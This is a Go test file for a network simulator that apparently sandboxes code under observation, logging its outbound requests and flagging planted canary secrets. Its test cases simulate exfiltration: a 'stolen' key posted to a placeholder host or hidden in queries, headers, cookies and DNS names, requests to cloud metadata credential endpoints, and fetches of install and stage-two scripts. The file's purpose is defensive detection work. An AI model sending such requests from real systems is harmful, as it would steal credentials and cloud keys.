package netsim

import (
	"bytes"
	"encoding/hex"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
)

func TestASecretPostedOverHTTPSIsEvidence(t *testing.T) {
	l := newLab(t, Limits{})
	c := l.client(nil)
	stolen := "data=" + hex.EncodeToString([]byte(secret))
	for range 2 {
		resp, text := l.do(c, "POST", "https://example.com/collect?id=1", strings.NewReader(stolen),
			"Authorization", "Bearer abc", "Cookie", "a=b")
		if resp.StatusCode != http.StatusOK || text != object {
			t.Errorf("answered %d %q", resp.StatusCode, text)
		}
		if got := resp.Header.Get("Date"); got != "Tue, 06 May 2031 07:08:09 GMT" {
			t.Errorf("the date is %s", got)
		}
	}
	e := l.only("http")
	if e.Peer != "example.com:443" || e.Detail != "POST https://example.com/collect?id=1 (authorization Bearer, cookies)" {
		t.Errorf("peer %q, detail %q", e.Peer, e.Detail)
	}
	if string(e.Head) != stolen || e.Bytes < 2*int64(len(stolen)) || e.Count != 2 || e.First <= 0 {
		t.Errorf("head %q, %d bytes, %d times, at %v", e.Head, e.Bytes, e.Count, e.First)
	}
	if !slices.Equal(e.Canaries, []string{"aws-key (hex)"}) {
		t.Errorf("canaries %v", e.Canaries)
	}
	if !strings.HasPrefix(e.Address, "198.18.") && !strings.HasPrefix(e.Address, "198.19.") {
		t.Errorf("address %s", e.Address)
	}
}

func TestASecretIsFoundWhereverItIsInARequest(t *testing.T) {
	large := strings.Repeat("x", 80<<10)
	tests := map[string]func(l *lab, c *http.Client){
		"in the query": func(l *lab, c *http.Client) { l.do(c, "GET", "https://example.com/?k="+secret, nil) },
		"in the path":  func(l *lab, c *http.Client) { l.do(c, "GET", "http://example.com/"+secret+".png", nil) },
		"in a header":  func(l *lab, c *http.Client) { l.do(c, "GET", "https://example.com/", nil, "X-Debug", secret) },
		"in a cookie":  func(l *lab, c *http.Client) { l.do(c, "GET", "http://example.com/", nil, "Cookie", "s="+secret) },
		"in the name":  func(l *lab, c *http.Client) { l.do(c, "GET", "https://"+strings.ToLower(secret)+".example.com/", nil) },
		"behind 80 KiB": func(l *lab, c *http.Client) {
			l.do(c, "PUT", "https://example.com/", strings.NewReader(large+secret+large))
		},
		"in chunks of one byte": func(l *lab, c *http.Client) {
			r, w := io.Pipe()
			go func() {
				for i := range secret {
					_, _ = w.Write([]byte{secret[i]})
				}
				w.Close()
			}()
			l.do(c, "POST", "http://example.com/", r)
		},
	}
	for name, send := range tests {
		for _, version := range []string{"HTTP/1.1", "HTTP/2"} {
			t.Run(name+" over "+version, func(t *testing.T) {
				l := newLab(t, Limits{})
				send(l, l.client(func(tr *http.Transport) { tr.ForceAttemptHTTP2 = version == "HTTP/2" }))
				e := l.only("http")
				if !slices.Contains(e.Canaries, "aws-key (plain)") {
					t.Errorf("not found: %+v", e)
				}
				if len(e.Head) > maxHead {
					t.Errorf("the head has %d bytes", len(e.Head))
				}
			})
		}
	}
}

func TestHTTP2IsSpokenWithThoseWhoWantIt(t *testing.T) {
	l := newLab(t, Limits{})
	resp, _ := l.do(l.client(func(tr *http.Transport) { tr.ForceAttemptHTTP2 = true }), "GET", "https://example.com/", nil)
	if resp.ProtoMajor != 2 {
		t.Errorf("spoke %s", resp.Proto)
	}
	var plain http.Protocols
	plain.SetUnencryptedHTTP2(true)
	resp, _ = l.do(l.client(func(tr *http.Transport) { tr.Protocols = &plain }), "GET", "http://example.org/", nil)
	if resp.ProtoMajor != 2 {
		t.Errorf("without TLS: spoke %s", resp.Proto)
	}
	if events := l.end("http"); len(events) != 2 || l.Lost() != 0 {
		t.Errorf("%+v", events)
	}
}

func TestAServerIsTrustedByItsAddressToo(t *testing.T) {
	for _, host := range []string{"203.0.113.7", "[2001:db8::7]"} {
		l := newLab(t, Limits{})
		l.do(l.client(nil), "GET", "https://"+host+"/x", nil)
		if e := l.only("http"); e.Detail != "GET https://"+host+"/x" || e.Peer != host+":443" {
			t.Errorf("%+v", e)
		}
	}
}

func TestANameThatDNSDidNotGiveIsShownWithItsAddress(t *testing.T) {
	l := newLab(t, Limits{})
	r, err := http.NewRequestWithContext(t.Context(), "GET", "http://203.0.113.7:8080/x", nil)
	if err != nil {
		t.Fatal(err)
	}
	r.Host = "pypi.org"
	resp, err := l.client(nil).Do(r)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if e := l.only("http"); !strings.Contains(e.Detail, "at 203.0.113.7:8080") || e.Address != "203.0.113.7:8080" {
		t.Errorf("%+v", e)
	}
}

func TestProxiedRequestsAreAnswered(t *testing.T) {
	proxy := func(tr *http.Transport) {
		tr.Proxy = http.ProxyURL(&url.URL{Scheme: "http", Host: "proxy.example.net:3128"})
	}
	l := newLab(t, Limits{})
	c := l.client(proxy)
	l.do(c, "POST", "https://example.com/in", strings.NewReader(secret))
	l.do(c, "GET", "http://example.org/plain", nil)
	events := l.end("http")
	want := []string{
		"CONNECT example.com:443 (through a proxy)",
		"POST https://example.com/in (at ",
		"GET http://example.org/plain (through a proxy)",
	}
	if len(events) != len(want) || l.Lost() != 0 {
		t.Fatalf("%d lost, %+v", l.Lost(), events)
	}
	for i, e := range events {
		if !strings.HasPrefix(e.Detail, want[i]) {
			t.Errorf("%q, want %q", e.Detail, want[i])
		}
	}
	if events[1].Peer != "example.com:443" || !slices.Equal(events[1].Canaries, []string{"aws-key (plain)"}) {
		t.Errorf("%+v", events[1])
	}
}

func TestMalformedRequestsAreRecorded(t *testing.T) {
	tests := map[string]string{
		"a broken request line":     "GET " + secret + "\r\n\r\n",
		"half a request":            "POST / HTTP/1.1\r\nHost: a\r\nX: " + secret,
		"something behind":          "GET / HTTP/1.1\r\nHost: a\r\n\r\n\x00\x01" + secret + "\r\n\r\n",
		"a header with a bad name":  "GET / HTTP/1.1\r\nHost: a\r\n(): " + secret + "\r\n\r\n",
		"a body shorter than it is": "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 900\r\n\r\n" + secret,
	}
	for name, text := range tests {
		t.Run(name, func(t *testing.T) {
			l := newLab(t, Limits{})
			c := l.connect("tcp", "203.0.113.7:80")
			_, _ = io.WriteString(c, text)
			_ = c.(interface{ CloseWrite() error }).CloseWrite()
			_, _ = io.Copy(io.Discard, c)
			l.Close()
			if !slices.ContainsFunc(l.Events(), func(e Event) bool { return slices.Contains(e.Canaries, "aws-key (plain)") }) {
				t.Errorf("not found in %+v", l.Events())
			}
		})
	}
}

func TestAnUpgradeIsRecordedAndRefused(t *testing.T) {
	l := newLab(t, Limits{})
	resp, _ := l.do(l.client(nil), "GET", "http://example.com/socket", nil, "Connection", "Upgrade", "Upgrade", "websocket")
	if resp.StatusCode == http.StatusSwitchingProtocols {
		t.Error("accepted")
	}
	if e := l.only("http"); !strings.Contains(e.Detail, "upgrade to websocket") {
		t.Errorf("%+v", e)
	}
}

func TestPackageIndexesSayWhatWasAskedFor(t *testing.T) {
	tests := map[string]struct{ url, note, body string }{
		"pip":              {"https://pypi.org/simple/requests/", "PyPI package requests", "404 Not Found"},
		"npm":              {"https://registry.npmjs.org/left-pad", "npm package left-pad", `{"error":"Not found"}`},
		"npm with a scope": {"https://registry.npmjs.org/@types%2fnode", "npm package @types/node", `{"error":"Not found"}`},
		"go":               {"https://proxy.golang.org/example.com/mod/@v/list", "Go package example.com/mod", "not found: example.com/mod"},
		"cargo":            {"https://index.crates.io/se/rd/serde", "crates.io package serde", "not found"},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			l := newLab(t, Limits{})
			resp, body := l.do(l.client(nil), "GET", tt.url, nil)
			if resp.StatusCode != http.StatusNotFound || !strings.Contains(body, tt.body) {
				t.Errorf("answered %d %q", resp.StatusCode, body)
			}
			if e := l.only("http"); e.Detail != "GET "+tt.url+" ("+tt.note+")" {
				t.Errorf("%q", e.Detail)
			}
		})
	}
}

func TestAnswersArePlausibleAndInert(t *testing.T) {
	tests := map[string]struct {
		url, accept, agent string
		want               string
	}{
		"a page":            {"https://example.com/", "text/html", "", page},
		"an API":            {"https://example.com/v1/x", "application/json", "", object},
		"an API by name":    {"https://api.example.com/v1/x", "*/*", "curl/8", object},
		"a shell script":    {"https://example.com/install.sh", "*/*", "curl/8", "#!/bin/sh\ngate_answered=1\n"},
		"piped to a shell":  {"https://example.com/install", "*/*", "curl/8", "gate_answered=1\n"},
		"a Python script":   {"http://example.com/stage2.py", "", "", "gate_answered=1\n"},
		"a module":          {"http://example.com/a/b.mjs", "", "", "var gate_answered=1\n"},
		"one's own address": {"https://api.ipify.org/", "", "", ownAddress + "\n"},
	}
	l := newLab(t, Limits{})
	c := l.client(nil)
	for name, tt := range tests {
		resp, body := l.do(c, "GET", tt.url, nil, "Accept", tt.accept, "User-Agent", tt.agent)
		if resp.StatusCode != http.StatusOK || body != tt.want {
			t.Errorf("%s: answered %d %q", name, resp.StatusCode, body)
		}
	}
}

func TestTheMetadataServiceGivesAwayACanary(t *testing.T) {
	const planted = "Mt4KqZ8wLx2PvBn6RsTy"
	aws, google := "http://169.254.169.254", "http://metadata.google.internal"
	tests := map[string]struct {
		method, url string
		header      []string
		status      int
		want        string
	}{
		"AWS roles":            {"GET", aws + "/latest/meta-data/iam/security-credentials/", nil, 200, "app-role"},
		"AWS keys":             {"GET", aws + "/latest/meta-data/iam/security-credentials/app-role", nil, 200, planted},
		"AWS token":            {"PUT", aws + "/latest/api/token", []string{"X-aws-ec2-metadata-token-ttl-seconds", "60"}, 200, ""},
		"AWS over IPv6":        {"GET", "http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/app-role", nil, 200, planted},
		"ECS":                  {"GET", "http://169.254.170.2/v2/credentials/1", nil, 200, planted},
		"Google":               {"GET", google + "/computeMetadata/v1/instance/service-accounts/default/token", []string{"Metadata-Flavor", "Google"}, 200, planted},
		"Google, the flag off": {"GET", google + "/computeMetadata/v1/instance/service-accounts/default/token", nil, 403, ""},
		"Azure":                {"GET", aws + "/metadata/identity/oauth2/token?resource=x", []string{"Metadata", "true"}, 200, planted},
		"nothing there":        {"GET", aws + "/latest/nothing", nil, 404, ""},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			l := newLab(t, Limits{})
			resp, body := l.do(l.client(nil), tt.method, tt.url, nil, tt.header...)
			if resp.StatusCode != tt.status || !strings.Contains(body, tt.want) {
				t.Errorf("answered %d %q", resp.StatusCode, body)
			}
			if e := l.only("metadata"); e.Detail != tt.method+" "+tt.url {
				t.Errorf("%q", e.Detail)
			}
		})
	}
}

func TestRequestsOfAConnectionHaveTheirOwnFinds(t *testing.T) {
	l := newLab(t, Limits{})
	c := l.client(nil)
	l.do(c, "POST", "http://example.com/1", strings.NewReader(secret))
	l.do(c, "POST", "http://example.com/2", strings.NewReader("nothing"))
	l.do(c, "POST", "http://example.com/3", strings.NewReader(secret))
	for i, e := range l.end("http") {
		if want := i != 1; (len(e.Canaries) > 0) != want {
			t.Errorf("%+v", e)
		}
	}
	if found := l.end("tcp"); len(found) > 0 {
		t.Errorf("told twice: %+v", found)
	}
}

func TestABodyIsCountedToItsEndAndKeptInPart(t *testing.T) {
	l := newLab(t, Limits{})
	body := bytes.Repeat([]byte("0123456789abcdef"), 8<<10)
	l.do(l.client(nil), "POST", "https://example.com/", bytes.NewReader(body))
	e := l.only("http")
	if e.Bytes < int64(len(body)) || !bytes.Equal(e.Head, body[:maxHead]) {
		t.Errorf("%d bytes, head of %d", e.Bytes, len(e.Head))
	}
}
